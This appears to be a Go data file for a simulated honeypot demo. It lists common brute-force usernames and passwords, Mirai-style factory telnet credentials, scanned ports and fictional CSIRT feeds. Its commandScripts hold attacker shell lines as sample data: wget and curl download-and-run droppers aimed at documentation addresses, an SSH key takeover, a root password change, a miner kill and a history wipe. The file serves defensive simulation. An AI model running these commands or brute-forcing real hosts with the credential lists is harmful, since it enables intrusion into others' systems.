package demo

// The vocabulary of the simulated attackers: what real honeypots see most, in roughly the order
// of their popularity (rank 1 first). Sampling follows a Zipf law over these ranks plus a random
// tail, so a few credentials and ports dominate and a long tail is seen once or twice.

// usernames tried against telnet, SSH, FTP, SMTP and HTTP basic auth.
var usernames = []string{
	"root", "admin", "user", "test", "ubuntu", "pi", "oracle", "postgres", "guest", "support",
	"ftpuser", "administrator", "git", "mysql", "ubnt", "default", "operator", "deploy", "hadoop", "nagios",
	"tomcat", "www-data", "ftp", "info", "service", "jenkins", "minecraft", "steam", "teamspeak", "ts3",
	"dev", "developer", "centos", "debian", "ec2-user", "azureuser", "vagrant", "docker", "server", "user1",
	"test1", "web", "backup", "manager", "sales", "office", "mail", "postmaster", "webmaster", "demo",
	"student", "alex", "john", "michael", "david", "anonymous", "sa", "supervisor", "tech", "telecomadmin",
	"Administrator", "system", "sysadmin", "es", "elastic", "kafka", "redis", "zabbix", "odoo", "bitrix",
}

// passwords, most popular first.
var passwords = []string{
	"123456", "admin", "password", "root", "12345678", "1234", "12345", "123456789", "qwerty", "111111",
	"1234567", "123", "1q2w3e4r", "test", "000000", "abc123", "password1", "123123", "admin123", "P@ssw0rd",
	"toor", "raspberry", "ubnt", "default", "support", "user", "guest", "changeme", "1qaz2wsx", "qwe123",
	"654321", "666666", "888888", "123321", "1111", "qwerty123", "letmein", "welcome", "pass", "passw0rd",
	"Passw0rd", "root123", "admin1234", "1q2w3e", "abcd1234", "test123", "1234qwer", "Aa123456", "qwertyuiop", "monkey",
	"dragon", "iloveyou", "sunshine", "princess", "football", "baseball", "shadow", "master", "michael", "superman",
	"trustno1", "zxcvbnm", "asdfgh", "qazwsx", "7777777", "121212", "11111111", "987654321", "1234567890", "112233",
	"159753", "aaaaaa", "computer", "freedom", "hello", "server", "oracle", "postgres", "mysql", "ubuntu",
	"centos", "linux", "debian", "system", "manager", "secret", "administrator", "admin@123", "Admin123", "admin1",
	"root@123", "Root123", "r00t", "p@ssword", "Password1", "Password123", "Qwerty123", "qwer1234", "asdf1234", "zaq12wsx",
	"hikvision", "vizxv", "xc3511", "xmhdipc", "juantech", "klv123", "klv1234", "Zte521", "hi3518", "jvbzd",
	"anko", "zlxx.", "7ujMko0admin", "7ujMko0vizxv", "ikwb", "dreambox", "realtek", "00000000", "1111111", "smcadmin",
	"meinsm", "54321", "5up", "tech", "fucker", "annie2012", "GM8182", "cat1029", "hunt5759", "tl789",
	"gpon", "e8ehome", "e8telnet", "telecomadmin", "nE7jA%5m", "adminHW", "1001chin", "oelinux123", "solokey", "ipcam_rt5350",
	"2wsx3edc", "zxcvbn", "q1w2e3r4", "1qazxsw2", "123qwe", "qweasd", "qweasdzxc", "1q2w3e4r5t", "password123", "welcome1",
	"test1234", "test1", "guest123", "user123", "demo", "minecraft", "steam", "git", "jenkins", "hadoop",
}

// telnetPairs are the factory credentials that IoT botnets (Mirai and its descendants) try first.
var telnetPairs = [][2]string{
	{"root", "xc3511"}, {"root", "vizxv"}, {"root", "admin"}, {"admin", "admin"}, {"root", "888888"},
	{"root", "xmhdipc"}, {"root", "default"}, {"root", "juantech"}, {"root", "123456"}, {"root", "54321"},
	{"support", "support"}, {"root", ""}, {"admin", "password"}, {"root", "root"}, {"root", "12345"},
	{"user", "user"}, {"admin", ""}, {"root", "pass"}, {"admin", "admin1234"}, {"root", "1111"},
	{"admin", "smcadmin"}, {"admin", "1111"}, {"root", "666666"}, {"root", "password"}, {"root", "1234"},
	{"root", "klv123"}, {"Administrator", "admin"}, {"service", "service"}, {"supervisor", "supervisor"}, {"guest", "guest"},
	{"guest", "12345"}, {"admin1", "password"}, {"administrator", "1234"}, {"666666", "666666"}, {"888888", "888888"},
	{"ubnt", "ubnt"}, {"root", "klv1234"}, {"root", "Zte521"}, {"root", "hi3518"}, {"root", "jvbzd"},
	{"root", "anko"}, {"root", "zlxx."}, {"root", "7ujMko0vizxv"}, {"root", "7ujMko0admin"}, {"root", "system"},
	{"root", "ikwb"}, {"root", "dreambox"}, {"root", "user"}, {"root", "realtek"}, {"root", "00000000"},
	{"admin", "1111111"}, {"admin", "1234"}, {"admin", "12345"}, {"admin", "54321"}, {"admin", "123456"},
	{"admin", "7ujMko0admin"}, {"admin", "pass"}, {"admin", "meinsm"}, {"tech", "tech"}, {"default", "default"},
	{"telecomadmin", "admintelecom"}, {"e8ehome", "e8ehome"}, {"root", "GM8182"}, {"root", "tl789"}, {"root", "hunt5759"},
}

// tailWords seed the random tail of passwords ("summer2024", "Marek!", …).
var tailWords = []string{
	"summer", "winter", "spring", "autumn", "dragon", "monkey", "tiger", "shadow", "master", "love",
	"prague", "praha", "brno", "berlin", "london", "paris", "moscow", "beijing", "tokyo", "seoul",
	"marek", "petr", "jana", "anna", "eva", "pavel", "tomas", "martin", "lucie", "jakub",
	"server", "router", "camera", "office", "company", "welcome", "hello", "secret", "family", "house",
}

// tailNames seed the random tail of usernames.
var tailNames = []string{
	"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
	"karel", "lenka", "milan", "nikola", "olga", "radek", "sarka", "vojta", "zdenek", "hana",
	"backup", "admin", "user", "test", "oracle", "ftp", "web", "dev", "sql", "node",
}

// popularPorts are the local ports of small scans, most scanned first, with their protocol.
var popularPorts = []struct {
	port  int32
	proto string
}{
	{23, "TCP"}, {22, "TCP"}, {80, "TCP"}, {443, "TCP"}, {445, "TCP"}, {3389, "TCP"}, {8080, "TCP"}, {2323, "TCP"},
	{5900, "TCP"}, {1433, "TCP"}, {3306, "TCP"}, {8443, "TCP"}, {21, "TCP"}, {25, "TCP"}, {81, "TCP"}, {8000, "TCP"},
	{6379, "TCP"}, {5060, "UDP"}, {53, "UDP"}, {123, "UDP"}, {161, "UDP"}, {1900, "UDP"}, {8081, "TCP"}, {8888, "TCP"},
	{37215, "TCP"}, {52869, "TCP"}, {7547, "TCP"}, {5555, "TCP"}, {9200, "TCP"}, {27017, "TCP"}, {5432, "TCP"}, {11211, "UDP"},
	{135, "TCP"}, {139, "TCP"}, {110, "TCP"}, {143, "TCP"}, {993, "TCP"}, {995, "TCP"}, {587, "TCP"}, {1723, "TCP"},
	{2375, "TCP"}, {6443, "TCP"}, {9000, "TCP"}, {10000, "TCP"}, {60001, "TCP"}, {49152, "TCP"}, {502, "TCP"}, {47808, "UDP"},
	{0, "other"},
}

// asnWeights says how much of the attack traffic comes from an autonomous system of the bundled
// geo file, relative to the others (default 1): a few hosting and telecom networks carry most of
// it, as on the real network.
var asnWeights = map[int32]float64{
	4134: 60, 4837: 35, 14061: 50, 9808: 18, 45090: 15, 37963: 15, 132203: 8, 135377: 6, 45102: 5, 4812: 6,
	16509: 10, 14618: 6, 396982: 8, 8075: 6, 63949: 6, 20473: 8, 398324: 12, 6939: 4, 53667: 4, 36352: 5,
	16276: 12, 24940: 8, 51167: 8, 9009: 4, 60781: 4, 12876: 3, 12389: 6, 49505: 4, 202425: 6, 44477: 5,
	4766: 10, 9318: 5, 45899: 10, 7552: 6, 9829: 6, 55836: 5, 45609: 4, 7713: 5, 9121: 5, 58224: 4,
	17557: 3, 18403: 4, 28573: 6, 18881: 4, 8151: 4, 8452: 3, 15895: 3, 8359: 3,
}

// commandScripts are what bots type once a HaaS login succeeds, most common first: system
// reconnaissance, a dropper, taking over the account's SSH key or password, hunting rival
// miners, router shells. Download addresses are documentation addresses (RFC 5737).
var commandScripts = [][]string{
	{"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem", "ls -lh $(which ls)", "crontab -l",
		"w", "uname -m", "whoami", "lscpu | grep Model", "df -h | head -n 2"},
	{"cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDdemo0nly9kEy mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"},
	{"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /", "wget http://192.0.2.80/bins.sh", "chmod 777 bins.sh",
		"sh bins.sh", "rm -rf bins.sh"},
	{"echo \"root:Vx9fq2LmRt\"|chpasswd|bash"},
	{"enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox ECCHI"},
	{"cat /proc/cpuinfo", "nproc", "ps -ef | grep '[Mm]iner'", "pkill -9 xmrig", "ls -la /var/run/gcc.pid"},
	{"/ip cloud print"},
	{"uname -s -v -n -r -m"},
	{"curl -s http://198.51.100.66/x86_64 -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x", "history -c"},
}

// demoFeed is a CSIRT feed of the demo: the IntelMQ classification and identifiers its events carry.
type demoFeed struct {
	provider, name, taxonomy, typ string
	identifiers                   []string
}

// feeds are the simulated ecosystem feeds (fictional providers); feedsOf says which ones report an attacker of each
// kind (the same attackers our probes see, as in reality).
var feeds = []demoFeed{
	{"NorthCERT", "Honeypot Brute Force Events", "intrusion-attempts", "brute-force", []string{"ssh", "telnet", "ftp"}},
	{"NorthCERT", "Scanners", "information-gathering", "scanner", []string{"telnet", "ssh", "rdp", "smb", "http", "vnc"}},
	{"SinkLab", "Sinkhole Events", "malicious-code", "infected-system", []string{"mirai", "gafgyt", "mozi"}},
	{"EduNet CSIRT", "Warden Exploits", "intrusion-attempts", "exploit", []string{"Attempt.Exploit"}},
	{"BlockList Co", "Spam Sources", "abusive-content", "spam", []string{"spam"}},
	{"NorthCERT", "DDoS Sources", "availability", "ddos", []string{"syn-flood", "udp-flood"}},
	{"NorthCERT", "Accessible Services", "vulnerable", "potentially-unwanted-accessible", []string{"telnet", "rdp", "redis", "memcached"}},
}

var feedsOf = [numKinds][]int{
	kindTelnet: {0, 2, 2, 6},
	kindSSH:    {0, 0, 1},
	kindScan:   {1, 1, 1, 6},
	kindWeb:    {3, 3, 1},
	kindMail:   {4, 4, 0},
	kindFTP:    {0, 1, 5},
}
